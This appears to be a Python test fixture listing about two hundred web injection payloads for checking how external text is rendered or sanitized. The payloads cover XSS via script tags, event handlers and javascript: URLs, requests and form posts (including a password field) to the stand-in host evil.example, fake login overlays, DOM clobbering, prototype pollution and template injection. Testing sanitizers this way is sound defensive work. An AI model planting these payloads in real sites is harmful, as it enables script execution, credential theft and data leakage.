"""Two hundred texts that would like to be more than text, for every place where a text from outside is shown.

`hit(0)` stands for what a payload does when its script runs, `//evil.example/0` for where it sends something;
`payloads` puts each one's own number there.
"""

SCRIPT = r"""
<script>hit(0)</script>
<ScRiPt>hit(0)</sCrIpT>
<script >hit(0)</script >
<script/x>hit(0)</script>
<script	type=text/javascript>hit(0)</script>
<script type=module>hit(0)</script>
<script src=//evil.example/0></script>
<script src=data:text/javascript,hit(0)></script>
<script src="https://evil.example/0" async defer></script>
<<script>hit(0)//<</script>
<scr<script>ipt>hit(0)</scr</script>ipt>
"><script>hit(0)</script>
'><script>hit(0)</script>
</p><script>hit(0)</script>
</h2></div></section><script>hit(0)</script>
</title><script>hit(0)</script>
</textarea><script>hit(0)</script>
</style><script>hit(0)</script>
</script><script>hit(0)</script>
--><script>hit(0)</script>
]]><script>hit(0)</script>
</noscript><script>hit(0)</script>
<!--><script>hit(0)</script>-->
<svg><script>hit(0)</script></svg>
<svg><script href=//evil.example/0></script></svg>
<svg><script xlink:href=data:,hit(0)></script></svg>
<math><mtext><script>hit(0)</script></mtext></math>
<iframe srcdoc="<script>parent.hit(0)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hit(0)&lt;/script&gt;"></iframe>
<object data="data:text/html,<script>top.hit(0)</script>"></object>
"""

HANDLERS = r"""
<img src=x onerror=hit(0)>
<img src=x onerror="hit(0)">
<img src=x:x onerror=hit(0)//
<img/src=x/onerror=hit(0)>
<img src=x oNeRrOr=hit(0)>
<img src onerror=&#104;it(0)>
<img src=x onerror=window['hit'](0)>
<img src=x onerror=top.hit`0`>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=hit(0)>
" onerror=hit(0) src=x "
" autofocus onfocus=hit(0) x="
' autofocus onfocus=hit(0) x='
" onmouseover="hit(0)
"><img src=x onerror=hit(0)>
'><img src=x onerror=hit(0)>
`><img src=x onerror=hit(0)>
"/><img src=x onerror=hit(0)>
</button><img src=x onerror=hit(0)>
</summary></details><img src=x onerror=hit(0)>
</mark></article><img src=x onerror=hit(0)>
<svg onload=hit(0)>
<svg/onload=hit(0)>
<svg><animate onbegin=hit(0) attributeName=x dur=1s>
<svg><set onbegin=hit(0) attributeName=x>
<svg><image href=x onerror=hit(0) /></svg>
<body onload=hit(0)>
<body onpageshow=hit(0)>
<input autofocus onfocus=hit(0)>
<select autofocus onfocus=hit(0)></select>
<textarea autofocus onfocus=hit(0)></textarea>
<button autofocus onfocus=hit(0)>Ask</button>
<a href=# autofocus onfocus=hit(0) tabindex=1>x</a>
<details open ontoggle=hit(0)><summary>x</summary></details>
<video src=x onerror=hit(0)></video>
<video><source onerror=hit(0) src=x></video>
<audio src=x onerror=hit(0)></audio>
<marquee onstart=hit(0)>x</marquee>
<iframe onload=hit(0)></iframe>
<object data=x onerror=hit(0)></object>
<embed src=x onerror=hit(0)>
<link rel=stylesheet href=x onerror=hit(0)>
<style onload=hit(0)></style>
<div onpointerenter=hit(0) style="position:fixed;inset:0">x</div>
<p onanimationstart=hit(0) style="animation:x 1s">x</p><style>@keyframes x{}</style>
<div contenteditable autofocus onfocus=hit(0) tabindex=0>x</div>
<xss autofocus tabindex=1 onfocus=hit(0)>x</xss>
<img src=x onerror=eval(atob('aGl0KDAp'))>
<img src=x onerror=setTimeout('hit(0)')>
<img src=x onerror=Function('hit(0)')()>
<img src=x onerror=import('data:text/javascript,top.hit(0)')>
"""

URLS = r"""
<a href=javascript:hit(0)>click</a>
<a href="java&#9;script:hit(0)">click</a>
<a href="JaVaScRiPt:hit(0)">click</a>
<a href="&#106;avascript:hit(0)">click</a>
<a href="data:text/html,<script>opener.hit(0)</script>" target=_blank>click</a>
<a href=//evil.example/0 ping=//evil.example/0>click</a>
<iframe src=javascript:parent.hit(0)></iframe>
<iframe src="java	script:parent.hit(0)"></iframe>
<iframe src=//evil.example/0></iframe>
<frameset><frame src=javascript:parent.hit(0)></frameset>
<embed src=javascript:hit(0)>
<object data=javascript:hit(0)></object>
<object data=//evil.example/0></object>
<form action=javascript:hit(0)><input type=submit id=go></form><img src=x onerror=go.click()>
<svg><a xlink:href=javascript:hit(0)><text y=20>click</text></a></svg>
<math href=javascript:hit(0)>click</math>
<area href=javascript:hit(0) shape=default>
<meta http-equiv=refresh content="0;url=javascript:hit(0)">
<meta http-equiv=refresh content="0;url=//evil.example/0">
<base href=//evil.example/0/>
[click](javascript:hit(0))
[click](javascript://evil.example/%0ahit(0))
[click](data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=)
![x](x"onerror="hit(0))
![x](//evil.example/0)
[x]: javascript:hit(0) "x"
<javascript:hit(0)>
<http://evil.example/0"onmouseover="hit(0)>
javascript:hit(0)
data:text/html,<script>hit(0)</script>
"""

REQUESTS = r"""
<img src=//evil.example/0>
<img src="http://evil.example/0?a=1">
<img srcset="//evil.example/0 1x">
<img src='//evil.example/0?
<picture><source srcset=//evil.example/0><img></picture>
<video poster=//evil.example/0></video>
<video src=//evil.example/0 autoplay></video>
<audio src=//evil.example/0 autoplay></audio>
<input type=image src=//evil.example/0>
<body background=//evil.example/0>
<table background=//evil.example/0><tr><td>x
<link rel=stylesheet href=//evil.example/0>
<link rel=prefetch href=//evil.example/0>
<link rel=preload as=image href=//evil.example/0>
<link rel=icon href=//evil.example/0>
<style>@import '//evil.example/0';</style>
<style>body{background:url(//evil.example/0)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/0)}*{font-family:x}</style>
<div style="background:url(//evil.example/0)">x</div>
<div style=background-image:image-set('//evil.example/0'1x)>x</div>
<p style="list-style:url(//evil.example/0);display:list-item">x</p>
<svg><image href=//evil.example/0 /></svg>
<svg><use href=//evil.example/0#x></use></svg>
<svg><filter><feImage href=//evil.example/0 /></filter></svg>
<object data=//evil.example/0 type=image/png></object>
<embed src=//evil.example/0 type=image/png>
<iframe srcdoc="<img src=//evil.example/0>"></iframe>
<track src=//evil.example/0>
<input value="x" style="background:url(//evil.example/0)">
<noscript><img src=//evil.example/0></noscript>
"""

FORMS_AND_OVERLAYS = r"""
<form action=//evil.example/0 method=post><input name=q value=x><button>Ask</button></form>
<form action=//evil.example/0><input name=password type=password autocomplete=on></form>
<form action=//evil.example/0 target=_blank><button style="position:fixed;inset:0">Log in</button></form>
<button form=x formaction=//evil.example/0>Ask</button><form id=x></form>
<form id=f0 action=//evil.example/0 method=post></form><iframe name=f onload=f0.submit()></iframe>
<input type=submit formaction=//evil.example/0 value=Ask>
<isindex action=//evil.example/0 prompt=x>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">Please log in again</div>
<div style="position:absolute;top:0;left:0;width:9999px;height:9999px;opacity:0">x</div>
<style>body *{display:none!important}</style>
<style>.answer{display:none}.asked h2::after{content:"42"}</style>
<style>*{visibility:hidden}</style>
<dialog open style="inset:0;position:fixed">Your session has ended</dialog>
<div popover id=p style="display:block;position:fixed;inset:0">x</div>
<iframe src=about:blank style="position:fixed;inset:0;width:100%;height:100%"></iframe>
<plaintext>
<textarea>
<xmp>
<title>
<!--
<select><option>
<table><tr><td>
</div></div></div></div></div></div>
<marquee style="position:fixed;top:0">x</marquee>
<font size=99 style=position:fixed>x
"""

GLOBALS = r"""
<img name=cookie>
<form name=body></form>
<form id=gradio_config></form>
<a id=gradio_config href=//evil.example/0></a>
<img id=trigger>
<img name=getElementById>
<form name=querySelector></form>
<a id=localStorage></a><a id=sessionStorage></a>
<a id=history href=x>
<a id=element></a><a id=element name=value></a>
<iframe name=fetch></iframe>
<iframe name=hit srcdoc=""></iframe>
<object id=CSS></object>
<form id=f0><input name=attributes><input name=parentNode></form>
<div id=tip>x</div><div id=toast>x</div><div id=question>x</div>
<div id=conversation class=exchange data-exchange=1 data-frozen='{}'>x</div>
{"__proto__":{"polluted":0}}
__proto__[polluted]=0
constructor.prototype.polluted=0
"}];window.polluted=0;//
"""

TEMPLATES = r"""
${hit(0)}
${constructor.constructor('hit(0)')()}
{{hit(0)}}
{{constructor.constructor('hit(0)')()}}
{{{value}}}
{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}
{%raw%}{{7*7}}{%endraw%}
{@html '<img src=x onerror=hit(0)>'}
<%= hit(0) %>
#{hit(0)}
`+hit(0)+`
';hit(0);'
";hit(0);"
\";hit(0);//
&lt;script&gt;hit(0)&lt;/script&gt;
&amp;lt;img src=x onerror=hit(0)&amp;gt;
&#60;img src=x onerror=hit(0)&#62;
\u003cimg src=x onerror=hit(0)\u003e
"""


def payloads() -> list[str]:
    """All of them, each with its own number, from 1."""
    groups = (SCRIPT, HANDLERS, URLS, REQUESTS, FORMS_AND_OVERLAYS, GLOBALS, TEMPLATES)
    texts = [line for group in groups for line in group.strip("\n").split("\n")]
    return [
        text.replace("hit(0)", f"hit({n})")
        .replace("evil.example/0", f"evil.example/{n}")
        .replace("`0`", f"`{n}`")
        for n, text in enumerate(texts, 1)
    ]
